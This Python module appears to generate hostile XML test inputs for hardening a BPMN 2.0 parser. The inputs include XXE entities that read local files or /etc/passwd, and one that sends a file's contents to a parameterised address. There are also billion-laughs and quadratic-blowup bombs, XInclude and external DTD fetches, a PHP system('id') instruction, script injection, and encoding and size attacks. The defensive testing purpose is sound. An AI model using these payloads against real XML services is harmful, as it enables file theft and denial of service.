"""Hostile XML, made by code: what must be refused, and what may be read but must do nothing.

Each case is a function that gives bytes, or a stream of chunks for what is too large to hold.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial
from itertools import repeat

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
OPEN = f'<definitions xmlns="{BPMN}">'
CLOSE = "</definitions>"
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
Made = bytes | Iterator[bytes]
Make = Callable[[], Made]


def diagram(inner: str = "", prolog: str = "", attributes: str = "") -> bytes:
    """A file with this inside its root, and this before it."""
    return f'{prolog}<definitions xmlns="{BPMN}" {attributes}>{inner}{CLOSE}'.encode()


def _doctype(subset: str, inner: str = "&x;", attributes: str = "") -> Make:
    return partial(diagram, inner, f"<!DOCTYPE definitions {subset}>", attributes)


def _laughs(kind: str = "") -> str:
    rows = [f'<!ENTITY {kind}a0 "{"ha" * 50}">']
    rows += [f'<!ENTITY {kind}a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f"[{''.join(rows)}]"


def document_types(secret: str, url: str) -> dict[str, Make]:
    """Document types and entities; ``secret`` is a file and ``url`` an address that nothing may open."""
    blow = "x" * 50_000
    outer = f'<!ENTITY % o SYSTEM "{url}/o.dtd"> %o;'
    return {
        "empty document type": _doctype("", ""),
        "empty subset": _doctype("[]", ""),
        "entity with a file": _doctype(f'[<!ENTITY x SYSTEM "file://{secret}">]'),
        "entity with an address": _doctype(f'[<!ENTITY x SYSTEM "{url}/x">]'),
        "entity with a public name": _doctype(f'[<!ENTITY x PUBLIC "-//X//EN" "{url}/x">]'),
        "entity in an attribute": _doctype('[<!ENTITY x "leak">]', "", 'name="&x;"'),
        "entity with a device": _doctype('[<!ENTITY x SYSTEM "file:///dev/zero">]'),
        "entity with a relative path": _doctype('[<!ENTITY x SYSTEM "../../etc/passwd">]'),
        "parameter entity with a file": _doctype(f'[<!ENTITY % p SYSTEM "file://{secret}"> %p;]', ""),
        "parameter entity with an address": _doctype(f"[{outer}]", ""),
        "entity that tells an address": _doctype(
            f'[<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % all "<!ENTITY s SYSTEM \'{url}/?%f;\'>">%all;]', "&s;"
        ),
        "external subset by file": _doctype(f'SYSTEM "file://{secret}"', ""),
        "external subset by address": _doctype(f'SYSTEM "{url}/x.dtd"', ""),
        "external subset with a public name": _doctype(f'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}/x.dtd"', ""),
        "billion laughs": _doctype(_laughs(), "&a9;"),
        "billion laughs in an attribute": _doctype(_laughs(), "", 'name="&a9;"'),
        "billion laughs of parameters": _doctype(_laughs("% "), ""),
        "quadratic blow-up": _doctype(f'[<!ENTITY x "{blow}">]', "&x;" * 50_000),
        "quadratic blow-up in attributes": _doctype(f'[<!ENTITY x "{blow}">]', '<a b="&x;&x;"/>' * 5_000),
        "entity of itself": _doctype('[<!ENTITY x "&x;">]'),
        "entities of each other": _doctype('[<!ENTITY x "&y;"><!ENTITY y "&x;">]'),
        "notation": _doctype(f'[<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{url}" NDATA n>]', ""),
        "default attributes": _doctype('[<!ATTLIST definitions id CDATA "leak">]', ""),
        "element declarations": _doctype("[<!ELEMENT definitions ANY>]", ""),
        "a hundred thousand entities": _doctype("[" + "".join(f'<!ENTITY e{n} "">' for n in range(100_000)) + "]", ""),
        "document type after a comment": partial(diagram, "", "<!-- hello --><!DOCTYPE definitions []>"),
        "document type after an instruction": partial(diagram, "", f"{DECLARATION}<?hello?><!DOCTYPE definitions []>"),
        "document type after space": partial(diagram, "", f"{DECLARATION}\r\n\t <!DOCTYPE definitions []>"),
        "document type after a mark": lambda: b"\xef\xbb\xbf" + diagram("", "<!DOCTYPE definitions []>"),
        "document type after two marks": lambda: b"\xef\xbb\xbf" * 2 + diagram("", "<!DOCTYPE definitions []>"),
        "document type after many comments": partial(diagram, "", "<!---->" * 100_000 + "<!DOCTYPE definitions []>"),
        "document type after a false end": partial(diagram, "", "<!-- ?> --><?a --> ?><!DOCTYPE definitions []>"),
        "document type in small letters": partial(diagram, "", "<!doctype definitions []>"),
        "document type inside": partial(diagram, "<!DOCTYPE definitions []>"),
        "document type at the end": lambda: diagram() + b"<!DOCTYPE definitions []>",
        "entity that is nowhere defined": partial(diagram, "&xxe;"),
        "entity of HTML": partial(diagram, "&nbsp;"),
        "entity undefined in an attribute": partial(diagram, "", "", 'name="&xxe;"'),
    }


def _encoded(encoding: str, declared: str = "", mark: bytes = b"") -> Make:
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    return lambda: mark + (declaration + OPEN + CLOSE).encode(encoding)


def _holding(raw: bytes) -> Make:
    return lambda: OPEN.encode() + raw + CLOSE.encode()


def _declared(encoding: str, raw: bytes, prolog: str = "") -> Make:
    head = f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{OPEN}'.encode()
    return lambda: head + raw + CLOSE.encode()


def encodings() -> dict[str, Make]:
    """Encodings that are not read, and bytes and characters that no XML may hold."""
    return {
        "UTF-16, little end first": _encoded("utf-16-le", "UTF-16", b"\xff\xfe"),
        "UTF-16, big end first": _encoded("utf-16-be", "UTF-16", b"\xfe\xff"),
        "UTF-16 without a mark": _encoded("utf-16-le", "UTF-16"),
        "UTF-16 without a mark, big end first": _encoded("utf-16-be", "UTF-16"),
        "UTF-32, little end first": _encoded("utf-32-le", "UTF-32", b"\xff\xfe\x00\x00"),
        "UTF-32, big end first": _encoded("utf-32-be", "UTF-32", b"\x00\x00\xfe\xff"),
        "UTF-32 without a mark": _encoded("utf-32-be"),
        "UTF-16 in name only": _encoded("ascii", "UTF-16"),
        "UTF-16 in name only, with UTF-8's mark": _encoded("ascii", "UTF-16", b"\xef\xbb\xbf"),
        "UTF-7": _encoded("utf-7", "UTF-7"),
        "UTF-7 in name only": _encoded("ascii", "utf-7"),
        "EBCDIC": _encoded("cp037", "IBM037"),
        "EBCDIC in name only": _encoded("ascii", "EBCDIC-CP-US"),
        "Latin-1 with UTF-8's mark": _encoded("ascii", "ISO-8859-1", b"\xef\xbb\xbf"),
        "Windows with UTF-8's mark": _encoded("ascii", "windows-1252", b"\xef\xbb\xbf"),
        "Windows in the name of Latin-1": _declared("ISO-8859-1", b"\x93quoted\x94"),
        "byte that Windows has not": _declared("windows-1252", b"\x81"),
        "Latin-9": _declared("ISO-8859-15", b"\xa4"),
        "Windows of another land": _declared("windows-1251", b"\xe0"),
        "zero in Latin-1": _declared("ISO-8859-1", b"\x00"),
        "Latin-1 that is too large in UTF-8": _declared("ISO-8859-1", b"\xe9" * 3_000_000),
        "Windows that is too large in UTF-8": _declared("windows-1252", b"\x80" * 2_000_000),
        "document type in Latin-1": _declared("ISO-8859-1", b"", "<!DOCTYPE definitions []>"),
        "entities in Windows": _declared("windows-1252", b"&x;", '<!DOCTYPE definitions [<!ENTITY x "leak">]>'),
        "Latin-1 declared twice": _declared("ISO-8859-1", b"", '<?xml version="1.0" encoding="UTF-16"?>'),
        "Shift-JIS in name": _encoded("ascii", "Shift_JIS"),
        "GB 18030 in name": _encoded("ascii", "GB18030"),
        "unknown encoding": _encoded("ascii", "x-made-up"),
        "empty encoding": lambda: b'<?xml version="1.0" encoding=""?>' + diagram(),
        "encoding of a megabyte": lambda: b'<?xml version="1.0" encoding="' + b"u" * 1_000_000 + b'"?>' + diagram(),
        "Latin-1 unnamed": _holding("Schule für alle".encode("latin-1")),
        "overlong slash": _holding(b"\xc0\xaf"),
        "overlong bracket": _holding(b"\xe0\x80\xbcscript>"),
        "half of a pair": _holding(b"\xed\xa0\x80"),
        "character past the last": _holding(b"\xf4\x90\x80\x80"),
        "five bytes for a character": _holding(b"\xf8\x88\x80\x80\x80"),
        "character cut off": lambda: OPEN.encode() + b"\xe2\x82",
        "byte 255": _holding(b"\xff"),
        "byte 128 alone": _holding(b"\x80"),
        "zero": _holding(b"\x00"),
        "bell": _holding(b"\x07"),
        "escape": _holding(b"\x1b[2J"),
        "not a character": _holding("\ufffe".encode()),
        "reference to zero": _holding(b"&#0;"),
        "reference to half of a pair": _holding(b"&#xD800;"),
        "reference past the last": _holding(b"&#x110000;"),
        "reference far too large": _holding(b"&#99999999999999999999999999;"),
        "reference without an end": _holding(b"&#65"),
        "reference to nothing": _holding(b"&#;"),
        "mark twice": lambda: b"\xef\xbb\xbf" * 2 + diagram(),
        "mark and nothing else": lambda: b"\xef\xbb\xbf",
    }


def _many(chunk: bytes, count: int) -> Iterator[bytes]:
    yield OPEN.encode()
    yield from repeat(chunk, count)
    yield CLOSE.encode()


def _nested(depth: int, closed: bool = True) -> bytes:
    return (OPEN + "<a>" * depth + ("</a>" * depth + CLOSE if closed else "")).encode()


def _attributes(count: int) -> bytes:
    return diagram("", "", " ".join(f'a{n}="x"' for n in range(count)))


def _namespaces(count: int) -> str:
    return " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(count))


def sizes() -> dict[str, Make]:
    """Files that are too large in one of the ways in which a file can be large."""
    space = b" " * 65_536
    return {
        "200 megabytes": lambda: _many(b"<a>hello</a>" * 5_000, 3_400),
        "200 megabytes of space": lambda: _many(space, 3_200),
        "a stream without end": lambda: repeat(space),
        "one byte too many": lambda: diagram("x" * (5_000_001 - len(diagram()))),
        "10,001 elements": lambda: diagram("<a/>" * 10_000),
        "a million elements": lambda: diagram("<a/>" * 1_000_000),
        "10,001 elements, in groups": lambda: diagram(("<a>" + "<b/>" * 99 + "</a>") * 100),
        "10,001 namesakes with ids": lambda: diagram("".join(f'<a id="i{n}"/>' for n in range(10_001))),
        "101 deep": lambda: _nested(100),
        "5,000 deep": lambda: _nested(5_000),
        "500,000 deep": lambda: _nested(500_000),
        "500,000 deep and never closed": lambda: _nested(500_000, closed=False),
        "200,000 attributes": lambda: _attributes(200_000),
        "attributes on many elements": lambda: diagram('<a b="1" c="2" d="3"/>' * 40_000),
        "10,000 namespaces": lambda: diagram("", "", _namespaces(10_000)),
        "a namespace at each element": lambda: diagram("".join(f'<n:a xmlns:n="urn:{n}"/>' for n in range(9_000))),
        "201 namespaces": lambda: diagram("", "", _namespaces(200)),
        "one namespace by 10,000 prefixes": lambda: diagram(
            "", "", " ".join(f'xmlns:n{n}="urn:x"' for n in range(10_000))
        ),
        "two namespaces 20,001 times": lambda: diagram(
            '<a xmlns:n="urn:n" xmlns:m="urn:m"/>' * 9_999 + '<a xmlns:n="urn:n"/>' * 3
        ),
        "namespaces that never end": lambda: OPEN.encode() + b"<a " + b"xmlns:n='" * 500_000,
        "namespaces without a value": lambda: OPEN.encode() + b"<a " + b"xmlns:n " * 500_000,
        "a name of 100,000 letters": lambda: diagram(f"<{'n' * 100_000}/>"),
        "an attribute's name of 100,000 letters": lambda: diagram("", "", f'{"n" * 100_000}="x"'),
        "a comment that never ends": lambda: diagram("<!-- " + "x" * 4_000_000),
        "a comment that never ends, before the root": lambda: b"<!-- " + b"x" * 4_000_000,
        "an instruction that never ends": lambda: b"<?x " + b"x" * 4_000_000,
        "characters that never end": lambda: diagram("<![CDATA[" + "x" * 4_000_000),
        "a tag that never ends": lambda: OPEN.encode() + b"<a " + b" " * 4_000_000,
        "a value that never ends": lambda: OPEN.encode() + b'<a b="' + b"x" * 4_000_000,
        "equals signs and space": lambda: b"<a " + b"= " * 2_000_000,
    }


def malformed() -> dict[str, Make]:
    """What is not XML, or nearly."""
    raw: dict[str, bytes] = {
        "nothing": b"",
        "space": b" \n\t ",
        "words": b"Please run this diagram.",
        "JSON": b'{"definitions": []}',
        "a zip file": b"PK\x03\x04" + bytes(200),
        "a gzip file": b"\x1f\x8b\x08" + bytes(200),
        "a picture": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "a PDF file": b"%PDF-1.7\n",
        "a web page": b"<!DOCTYPE html><html><body><p>Hello</body></html>",
        "an open web page": b"<html><body><p>Hello<br></body></html>",
        "a declaration only": DECLARATION.encode(),
        "a comment only": b"<!-- nothing here -->",
        "two roots": diagram() * 2,
        "text after the root": diagram() + b"more",
        "text before the root": b"more" + diagram(),
        "a tag left open": OPEN.encode() + b"<process>",
        "tags that cross": diagram("<a><b></a></b>"),
        "an end without a start": diagram("</a>"),
        "an attribute twice": diagram('<a id="1" id="2"/>'),
        "an attribute twice by namespace": diagram('<a xmlns:x="urn:a" xmlns:y="urn:a" x:id="1" y:id="2"/>'),
        "an undeclared prefix": diagram("<camunda:properties/>"),
        "an undeclared prefix of an attribute": diagram('<a camunda:formKey="x"/>'),
        "the prefix xml stolen": diagram('<a xmlns:xml="urn:a"/>'),
        "the prefix xmlns declared": diagram('<a xmlns:xmlns="urn:a"/>'),
        "a prefix undeclared again": diagram('<a xmlns:x="urn:a"><x:b xmlns:x=""/></a>'),
        "a name of two prefixes": diagram("<a:b:c/>"),
        "an attribute without quotes": diagram("<a id=1/>"),
        "an attribute without value": diagram("<a id/>"),
        "attributes without space": diagram('<a b="1"c="2"/>'),
        "a bracket in an attribute": diagram('<a id="<"/>'),
        "an ampersand alone": diagram("this & that"),
        "an end of characters in text": diagram("]]>"),
        "hyphens in a comment": diagram("<!-- a -- b -->"),
        "a declaration inside": diagram(DECLARATION),
        "a declaration after space": b" " + DECLARATION.encode() + diagram(),
        "two declarations": (DECLARATION * 2).encode() + diagram(),
        "a declaration without version": b'<?xml encoding="UTF-8"?>' + diagram(),
        "standalone maybe": b'<?xml version="1.0" standalone="maybe"?>' + diagram(),
        "a name that begins with a digit": diagram("<1a/>"),
        "an empty name": diagram("< />"),
        "a tag cut off": OPEN.encode() + b'<process id="p',
    }
    return {name: partial(bytes, data) for name, data in raw.items()}


def not_bpmn() -> dict[str, Make]:
    """XML that is no BPMN 2.0."""
    roots = {
        "a picture in SVG": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "a stylesheet": '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
        "definitions of no namespace": "<definitions/>",
        "definitions of another namespace": '<definitions xmlns="urn:other"/>',
        "BPMN's namespace, misspelt": f'<definitions xmlns="{BPMN}/"/>',
        "a process without definitions": f'<process xmlns="{BPMN}" id="p"/>',
        "a decision table": '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/"/>',
        "XPDL": '<Package xmlns="http://www.wfmc.org/2009/XPDL2.2"/>',
        "a root of 40,000 letters": f"<{'r' * 40_000}/>",
        "the prefix without its namespace": '<bpmn:definitions xmlns:bpmn="urn:bpmn"/>',
    }
    return {name: partial(bytes, text, "utf-8") for name, text in roots.items()}


def harmless(secret: str, url: str) -> dict[str, Make]:
    """What is well-formed and within the limits, and asks a reader to do things that it must not do."""
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{}" parse="text"/>'
    location = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{BPMN} {url}/x.xsd"'
    return {
        "an inclusion of a file": lambda: diagram(include.format(f"file://{secret}")),
        "an inclusion of an address": lambda: diagram(include.format(f"{url}/x")),
        "a schema at an address": lambda: diagram("", "", location),
        "a stylesheet at an address": lambda: diagram("", f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>'),
        "a base address": lambda: diagram("", "", f'xml:base="{url}/"'),
        "an import from an address": lambda: diagram(f'<import importType="x" location="{url}/x" namespace="urn:x"/>'),
        "an instruction to PHP": lambda: diagram("<?php system('id') ?>"),
        "600,000 comments": lambda: diagram("<!---->" * 600_000),
        "600,000 instructions": lambda: diagram("<?a?>" * 600_000),
        "comments between text": lambda: diagram("a<!---->" * 400_000),
        "four megabytes of characters": lambda: diagram(f"<![CDATA[{'<' * 4_000_000}]]>"),
        "four megabytes in an attribute": lambda: diagram("", "", f'name="{"x" * 4_000_000}"'),
        "four megabytes of references": lambda: diagram("&#65;" * 800_000),
        "four megabytes of space": lambda: diagram(" " * 4_000_000),
        "a script as a name": lambda: diagram('<process id="p" name="&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
        "text that turns round": lambda: diagram("<process id='p' name='\u202egnp.exe'/>"),
        "9,990 elements": lambda: diagram("<a/>" * 9_990),
        "99 deep": lambda: _nested(98),
        "9,000 attributes": lambda: _attributes(9_000),
        "Latin-1": _declared("ISO-8859-1", "Schule f\xfcr alle".encode("latin-1")),
        "Windows": _declared("windows-1252", "\u201cSchule\u201d f\xfcr \u20ac 5".encode("cp1252")),
        "two megabytes of Latin-1": _declared("ISO-8859-1", b"\xe9" * 2_000_000),
        "a namespace declared 9,000 times": lambda: diagram("<n:a xmlns:n='urn:n' xmlns='urn:o'/>" * 9_000),
        "190 namespaces at 100 elements": lambda: diagram(f"<a {_namespaces(190)}/>" * 100),
    }
